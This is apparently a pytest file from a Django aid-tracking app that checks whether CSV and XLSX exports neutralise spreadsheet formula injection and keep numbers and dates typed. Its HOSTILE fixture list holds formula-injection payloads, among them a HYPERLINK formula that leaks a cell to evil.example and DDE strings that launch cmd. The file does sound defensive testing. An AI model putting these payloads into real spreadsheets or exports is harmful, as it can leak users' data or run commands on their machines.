"""Exports never carry formulas: hostile text is neutralised, numbers and dates stay typed."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook

from aidtrack.core.exports import xlsx_row
from aidtrack.core.testing import COORDINATOR
from funds.models import ConsumptionSupport
from funds.services import fund_transaction_reverse
from tests.funds.conftest import funded_project, record

CONSUMPTION = "/funds/consumption/"
TRANSACTIONS = "/funds/transactions/"

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'
HOSTILE = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def browser(world, client):
    client.force_login(world.user(COORDINATOR))
    return client


@pytest.fixture
def hostile_channels(world):
    for index, channel in enumerate(HOSTILE):
        ConsumptionSupport.objects.create(
            pairing=world.in_scope_pairing,
            channel=channel,
            product=f"产品{index}",
            amount=Decimal("1000.00"),
            year=2023,
        )


def in_chinese(text: str) -> str:
    with translation.override("zh-hans"):
        return translation.gettext(text)


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"), newline="")))


def _sheet(response):
    return load_workbook(io.BytesIO(_body(response))).active


def test_csv_quotes_every_cell_that_reads_as_a_formula(browser, hostile_channels):
    response = browser.get(CONSUMPTION, {"export": "csv"})
    assert response.status_code == 200
    rows = _csv_rows(response)
    channel = rows[0].index(in_chinese("buyer or channel"))
    exported = {row[channel] for row in rows[1:-1]}
    assert exported == {"'" + value for value in HOSTILE}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_xlsx_writes_hostile_text_as_plain_strings(browser, hostile_channels):
    response = browser.get(CONSUMPTION, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = _sheet(response)
    texts = {}
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                texts[cell.value] = cell.data_type
    # Unchanged, and stored as strings. (openpyxl's own XML writer let a lone CR
    # come back as LF; through lxml it is written as &#13; and comes back as typed.)
    for value in HOSTILE:
        shown = value if value in texts else value.replace("\r", "\n")
        assert texts.get(shown) == "s", value


def test_numbers_and_dates_stay_typed_and_a_reversal_stays_negative(world, browser):
    project = funded_project(world, allocation="500000.00")
    entry = record(project, "commitment", "120000.50", day=date(2023, 3, 1))
    fund_transaction_reverse(entry, date=date(2023, 3, 2), note="录入错误", user=None)

    sheet = _sheet(browser.get(TRANSACTIONS, {"export": "xlsx"}))
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    committed = header.index(in_chinese("committed (yuan)"))
    amounts = sorted(Decimal(str(row[committed].value)) for row in rows[1:-1])
    assert amounts == [Decimal("-120000.50"), Decimal("120000.50")]
    for row in rows[1:-1]:
        assert row[committed].data_type == "n"
        assert isinstance(row[0].value, datetime)  # the date column, typed
    assert Decimal(str(rows[-1][committed].value)) == 0  # the totals row is a number too

    csv_rows = _csv_rows(browser.get(TRANSACTIONS, {"export": "csv"}))
    assert sorted(row[committed] for row in csv_rows[1:-1]) == ["-120000.50", "120000.50"]


def test_the_same_rule_in_an_ordinary_workbook():
    """The assessment workbook is not write-only; its text cells go through xlsx_row too."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(xlsx_row(sheet, [HYPERLINK, Decimal("-5.50"), "@note", None]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = load_workbook(io.BytesIO(buffer.getvalue())).active[1]
    assert [(cell.value, cell.data_type) for cell in cells[:3]] == [
        (HYPERLINK, "s"),
        (-5.5, "n"),
        ("@note", "s"),
    ]
